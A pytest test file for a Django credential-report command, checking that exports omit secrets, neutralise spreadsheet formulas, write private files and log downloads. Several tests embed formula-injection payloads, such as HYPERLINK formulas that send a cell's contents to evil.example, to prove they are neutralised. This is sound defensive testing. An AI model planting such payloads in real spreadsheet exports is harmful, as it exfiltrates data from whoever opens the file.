"""The credential report: everybody and every credential, no secret, nothing that a spreadsheet computes."""

from __future__ import annotations

import csv
import io
import json
import stat
import tracemalloc
from datetime import timedelta

import pytest
from django.contrib.auth import get_user_model
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from django_apiaccess.contrib.oauth import clients
from django_apiaccess.events.models import Event
from django_apiaccess.keys import service as keys
from django_apiaccess.keys.models import APIKey, APIKeySecret
from django_apiaccess.mfa import recovery
from django_apiaccess.mfa.models import TOTPFactor
from django_apiaccess.reviews import report
from django_apiaccess.reviews.writers import FORMULA, as_csv, harmless
from django_apiaccess.roles import service as roles
from tests.adminkit import allow, text_of, url

pytestmark = pytest.mark.django_db


@pytest.fixture
def run():
    def call(*arguments):
        out = io.StringIO()
        call_command("credential_report", *arguments, stdout=out, stderr=io.StringIO())
        return out.getvalue()

    return call


def read(text):
    return list(csv.DictReader(io.StringIO(text)))


def row_of(rows, **wanted):
    (found,) = [row for row in rows if all(row[name] == value for name, value in wanted.items())]
    return found


@pytest.fixture
def shop(make_user, make_role, make_key, operator):
    """Ann with everything, a robot that she owns, and clients."""
    make_role("reader", "docs:read")
    ann = make_user("ann", "reports:read", role="reader", is_staff=True)
    for name, confirmed in (("phone", True), ("new phone", False)):
        factor = TOTPFactor(user=ann, name=name, confirmed=confirmed)
        factor.seal(b"A" * 20)
        factor.save()
    recovery.make(ann)
    issued = make_key(ann, "docs:read", name="nightly", networks="10.0.0.0/8", rate="5/min")
    keys.rotate(issued.key, by=operator)
    APIKeySecret.objects.filter(retired_at=None).update(created_at=timezone.now() - timedelta(days=40))
    APIKey.objects.update(last_used_at=timezone.now(), last_used_from="10.1.2.3", use_count=7)
    robot = keys.create_service_account(name="robot", owner=ann, purpose="x", by=operator)
    roles.grant(user=robot.user, scope="docs:read", by=operator, ends_at=timezone.now() + timedelta(days=9))
    app = clients.create(
        by=operator, name="importer", grant_types="client_credentials", service_account=robot, scopes=["docs:read"]
    )
    clients.create(
        by=operator, name="reader", owner=ann, grant_types="authorization_code", redirect_uris="https://a.example/"
    )
    return issued, app


def test_it_says_of_each_principal_and_credential_what_a_reviewer_asks(run, shop):
    issued, app = shop
    rows = read(run())
    assert tuple(rows[0]) == report.COLUMNS
    assert len(rows) == 5
    ann = row_of(rows, principal="ann", credential="account")
    assert (ann["kind"], ann["active"], ann["staff"], ann["superuser"]) == ("user", "yes", "yes", "no")
    assert (ann["second_factors"], ann["second_factor_count"], ann["recovery_codes"]) == ("totp", "1", "10")
    assert (ann["password"], ann["password_algorithm"], ann["password_changed_at"]) == ("usable", "md5", "")
    assert (ann["roles"], ann["grants"], ann["sessions"]) == ("reader", "scope reports:read; role reader", "0")
    key = row_of(rows, credential="api_key")
    assert (key["principal"], key["name"], key["credential_id"]) == ("ann", "nightly", str(issued.key.pk))
    assert (key["secret_age_days"], key["live_secrets"], key["use_count"]) == ("40", "2", "7")
    assert (key["last_used_from"], key["networks"], key["rate"]) == ("10.1.2.3", "10.0.0.0/8", "5/min")
    assert (key["scopes"], key["state"]) == ("docs:read", "active")
    robot = row_of(rows, principal="robot", credential="account")
    assert (robot["kind"], robot["owner"], robot["password"]) == ("service_account", "ann", "unusable")
    assert robot["grants"].startswith("scope docs:read until 20")
    client = row_of(rows, name="importer")
    assert (client["principal"], client["credential_id"]) == ("robot", app.client.client_id)
    assert (client["live_secrets"], client["secret_age_days"]) == ("1", "0")
    assert (row_of(rows, name="reader")["kind"], row_of(rows, name="reader")["owner"]) == ("oauth_client", "ann")


def test_json_is_one_array_with_the_same_rows_a_row_a_line(run, shop):
    text = run("--format", "json")
    rows = json.loads(text)
    assert [tuple(row) for row in rows] == [report.COLUMNS] * 5
    assert row_of(rows, credential="api_key")["scopes"] == ["docs:read"]
    assert len(text.splitlines()) == 7
    assert json.loads(text.splitlines()[1].rstrip(","))["principal"] == "ann"


@pytest.mark.parametrize("form", ["csv", "json"])
def test_it_holds_no_secret_and_no_digest(run, shop, form):
    issued, app = shop
    text = run("--format", form)
    user = get_user_model().objects.get(username="ann")
    hidden = [issued.text, app.secret, user.password, user.password.split("$")[-1], "AAAA"]
    hidden += [secret.digest for secret in APIKeySecret.objects.all()]
    assert not [value for value in hidden if value in text]
    assert issued.text[16:60] not in text


def test_a_password_that_is_no_hash_is_not_shown(run, make_user):
    ann = make_user("ann")
    get_user_model().objects.filter(pk=ann.pk).update(password="hunter2$in$clear")
    make_user("eve")
    get_user_model().objects.filter(username="eve").update(password="")
    text = run()
    assert "hunter2" not in text
    assert row_of(read(text), principal="ann")["password_algorithm"] == "unknown"
    assert row_of(read(text), principal="eve")["password"] == "none"


@pytest.mark.parametrize("begin", [*FORMULA, " =", "\u00a0@", "\u2003+"])
def test_a_name_that_is_a_formula_is_text(make_user, make_key, run, begin):
    evil = f'{begin}HYPERLINK("http://evil.example/?x="&A1,"click")'
    key = make_key(make_user("ann", "docs:read"), "docs:read").key
    APIKey.objects.update(name=evil)
    name = row_of(read(run()), credential_id=str(key.pk), credential="api_key")["name"]
    assert name.startswith("'")
    assert not harmless(evil).lstrip("'").startswith(("\t", "\r", "\n"))


@pytest.mark.parametrize("sign", [*FORMULA[:4], *FORMULA[-4:]])
@pytest.mark.parametrize("before", [";", ",", "\t", "|", '"', "'", '";', "'; ", ';"', "\r\n", "; "])
def test_no_other_separator_makes_a_formula_of_the_middle_of_a_name(before, sign):
    row = dict.fromkeys(report.COLUMNS) | {
        "name": f'till{before}{sign}HYPERLINK("http://evil.example/"&A1)',
        "networks": [f"a{before}{sign}1"],
    }
    line = list(as_csv([row]))[1]
    for delimiter in ",;\t|":
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            (cells,) = csv.reader(io.StringIO(line), delimiter=delimiter, quoting=quoting)
            assert [cell for cell in cells if cell.strip(' "\t').startswith(FORMULA)] == []


def test_every_cell_is_in_quotes(make_user, run):
    make_user("ann")
    assert all(line.startswith('"') and line.endswith('"') for line in run().splitlines())


def test_unicode_quotes_and_lines_come_through_whole(make_user, make_key, run):
    name = 'naïve, "Ключ" 鍵\n\x1b[31mred\u202etxt'
    make_key(make_user("ann", "docs:read"), "docs:read")
    APIKey.objects.update(name=name)
    found = row_of(read(run()), credential="api_key")["name"]
    assert found.startswith('naïve, "Ключ" 鍵')
    assert not set(found) & {"\n", "\x1b", "\u202e"}


def test_addresses_can_be_left_out(run, shop):
    assert "10.1.2.3" in run()
    assert "10.1.2.3" not in run("--without-addresses")


def test_people_who_are_not_active_and_keys_that_ended_are_in_it(run, make_user, make_key, operator):
    ann = make_user("ann", "docs:read")
    keys.revoke(make_key(ann, "docs:read").key, reason="x", by=operator)
    get_user_model().objects.update(is_active=False)
    rows = read(run())
    assert row_of(rows, credential="api_key")["state"] == "revoked"
    assert {row["active"] for row in rows} == {"no"}


def test_rights_by_a_group_name_the_group(run, make_user, make_role, operator):
    from django.contrib.auth.models import Group

    make_role("reader", "docs:read")
    team = Group.objects.create(name="team; x")
    roles.grant(group=team, role="reader", by=operator)
    make_user("ann").groups.add(team)
    row = row_of(read(run()), principal="ann")
    assert (row["roles"], row["grants"]) == ("reader", "role reader by group team; x")


# -- the file


def test_the_file_is_private_and_replaced_as_a_whole(run, shop, tmp_path):
    target = tmp_path / "report.csv"
    target.write_text("old")
    target.chmod(0o644)
    run("--output", str(target))
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert len(read(target.read_text())) == 5
    assert [path.name for path in tmp_path.iterdir()] == ["report.csv"]


def test_a_run_that_fails_leaves_the_file_as_it_was(run, shop, tmp_path, monkeypatch):
    target = tmp_path / "report.csv"
    target.write_text("old")

    def broken(**_options):
        yield from list(real())[:1]
        raise RuntimeError("the database went away")

    real = report.rows
    monkeypatch.setattr(report, "rows", broken)
    with pytest.raises(RuntimeError):
        run("--output", str(target))
    assert (target.read_text(), [path.name for path in tmp_path.iterdir()]) == ("old", ["report.csv"])


def test_a_file_that_cannot_be_made_is_an_error_for_a_person(run, tmp_path):
    for path in (tmp_path / "nowhere" / "x.csv", tmp_path):
        with pytest.raises(CommandError, match="--output"):
            run("--output", str(path))


def test_who_took_it_is_in_the_log(run):
    run("--format", "json", "--without-addresses")
    event = Event.objects.get(action="report.taken")
    assert (event.actor_label, event.details) == ("credential_report", {"format": "json", "addresses": False})


# -- many


def many(users, keys_each):
    model, now = get_user_model(), timezone.now()
    model.objects.bulk_create(model(username=f"u{number}", password="!") for number in range(users))
    made = [APIKey(name=f"k{n}", principal=user) for user in model.objects.all() for n in range(keys_each)]
    APIKey.objects.bulk_create(made, batch_size=500)
    APIKeySecret.objects.bulk_create(
        (APIKeySecret(key=key, public_id=f"{key.pk:012}", digest="x", created_at=now) for key in APIKey.objects.all()),
        batch_size=500,
    )


def consumed():
    with CaptureQueriesContext(connection) as seen:
        tracemalloc.start()
        count = sum(1 for _line in as_csv(report.rows()))
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    return count - 1, len(seen), peak


def test_many_keys_cost_neither_more_statements_nor_more_memory(monkeypatch):
    monkeypatch.setattr("django_apiaccess.reviews.credentials.CHUNK", 100)
    many(20, 10)
    few = consumed()
    APIKey.objects.all().delete()
    get_user_model().objects.all().delete()
    many(20, 150)
    lots = consumed()
    assert (few[0], lots[0]) == (220, 3020)
    assert lots[1] == few[1]
    assert lots[2] < few[2] + 1_000_000


def test_many_people_are_read_batch_by_batch(monkeypatch):
    many(30, 1)
    monkeypatch.setattr(report, "BATCH", 10)
    rows = list(report.rows())
    assert [row["principal"] for row in rows] == [f"u{number}" for number in range(30) for _twice in range(2)]


# -- the download


def take(client, **data):
    return client.post(url("reminder", "report"), {"form": "csv", **data})


def test_holders_of_a_permission_of_its_own_download_it_and_the_event_names_them(client, make_user, shop):
    eve = allow(make_user("eve"), "take_credential_report")
    client.force_login(eve)
    page = text_of(client.get(url("reminder", "report")))
    assert "Download" in page
    assert not Event.objects.filter(action="report.taken").exists()
    answer = take(client)
    text = b"".join(answer.streaming_content).decode()
    assert row_of(read(text), credential="api_key")["name"] == "nightly"
    assert answer["Content-Disposition"].startswith('attachment; filename="credential-report-')
    assert "no-store" in answer["Cache-Control"]
    assert Event.objects.get(action="report.taken").actor_label == "eve"
    assert json.loads(b"".join(take(client, form="json").streaming_content))


def test_nobody_else_downloads_it(client, make_user):
    for codenames in ((), ("view_apikey", "view_reminder", "add_apikey")):
        client.force_login(allow(make_user(f"eve{len(codenames)}"), *codenames))
        assert client.get(url("reminder", "report")).status_code == 403
        assert take(client).status_code == 403
    client.logout()
    assert take(client).status_code == 302
    assert not Event.objects.filter(action="report.taken").exists()


def test_an_unknown_form_is_refused(client, make_user):
    client.force_login(allow(make_user("eve"), "take_credential_report"))
    assert take(client, form="xlsx").status_code == 400
